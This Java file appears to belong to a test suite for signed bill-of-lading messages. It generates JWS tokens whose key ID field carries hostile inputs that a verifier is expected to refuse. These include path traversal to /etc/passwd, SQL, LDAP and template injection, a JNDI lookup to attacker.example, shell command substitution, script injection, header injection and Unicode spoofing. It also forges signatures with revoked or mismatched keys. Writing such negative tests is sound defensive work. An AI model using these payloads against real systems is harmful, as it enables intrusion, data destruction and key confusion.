package org.throughbill.acts.sign;

import static org.throughbill.acts.Form.NOT_JOSE;
import static org.throughbill.acts.Rule.R36;
import static org.throughbill.acts.Rule.R40;
import static org.throughbill.acts.sign.Signers.MAKER_KEY;
import static org.throughbill.acts.sign.Signers.OPERATOR_KEY;

import java.util.List;
import java.util.Locale;
import org.throughbill.acts.ActType;
import org.throughbill.acts.Acts;
import org.throughbill.acts.Reason;
import org.throughbill.acts.Samples;

/** The {@code kid} is made to be looked up by something that believes it. */
final class KeyIdAttacks {
  private static final String KID = OPERATOR_KEY.publicKey().id().value();
  private static final byte[] PAYLOAD = Acts.write(Samples.of(ActType.BILL_ACCEPT_SURRENDER));

  private final AttackBook book;

  KeyIdAttacks(AttackBook book) {
    this.book = book;
  }

  void write() {
    for (String kid :
        List.of(
            "",
            " ",
            "k",
            "0",
            "null",
            "../../../../dev/null",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "/proc/self/environ",
            "keys/" + KID,
            "%2e%2e%2f" + KID,
            "file:///etc/passwd",
            "https://attacker.example/key",
            "' OR '1'='1",
            "'; DROP TABLE entry; --",
            "' UNION SELECT 'c2VjcmV0' -- ",
            KID + "' --",
            "1) OR (1=1",
            "*)(uid=*))(|(uid=*",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "$(id)",
            "`id`",
            "|id",
            "<script>alert(1)</script>",
            "%s%s%s%n",
            KID.toUpperCase(Locale.ROOT),
            KID.substring(1),
            KID + "0",
            KID + KID,
            " " + KID,
            KID + " ",
            "0x" + KID,
            "urn:" + KID,
            KID.replace('a', 'g'),
            "\u0430" + KID.substring(1),
            "\uff10" + KID.substring(1),
            "\u0661" + KID.substring(1),
            "提单",
            "\ud83d\udd11",
            "9".repeat(20_000))) {
      kid(R40, kid);
    }
    for (String kid :
        List.of(
            KID + "\u200b",
            KID + "\u0000",
            KID + "\n",
            KID + "\r\nX-Injected: 1",
            "\u202e" + KID,
            "e\u0301" + KID.substring(2),
            "\ud800" + KID.substring(1))) {
      kid(NOT_JOSE, kid);
    }
    String others = Forge.header("ES256", OPERATOR_KEY);
    book.act("KID", R36, "another's kid", Forge.jws(others, PAYLOAD, Signers.REVOKED_KEY));
    String nobodys = "{\"alg\":\"ES256\",\"kid\":\"" + "0".repeat(64) + "\"}";
    book.act("KID", R40, "a kid of zeros", Forge.jws(nobodys, PAYLOAD, OPERATOR_KEY));
    String own = Forge.header("Ed25519", MAKER_KEY);
    book.act("KID", R36, "one's own kid for another's act", Forge.jws(own, PAYLOAD, MAKER_KEY));
  }

  private void kid(Reason refused, String kid) {
    String escaped = kid.replace("\\", "\\\\").replace("\"", "\\\"");
    escaped = escaped.replace("\u0000", "\\u0000").replace("\n", "\\n").replace("\r", "\\r");
    escaped = escaped.replace("\ud800", "\\ud800");
    String header = "{\"alg\":\"ES256\",\"kid\":\"" + escaped + "\"}";
    String shown = kid.replaceAll("[^ -~]", "?");
    String words = shown.length() < 40 ? shown : shown.substring(0, 40) + "...";
    book.act("KID", refused, "the kid '" + words + "'", Forge.jws(header, PAYLOAD, OPERATOR_KEY));
  }
}
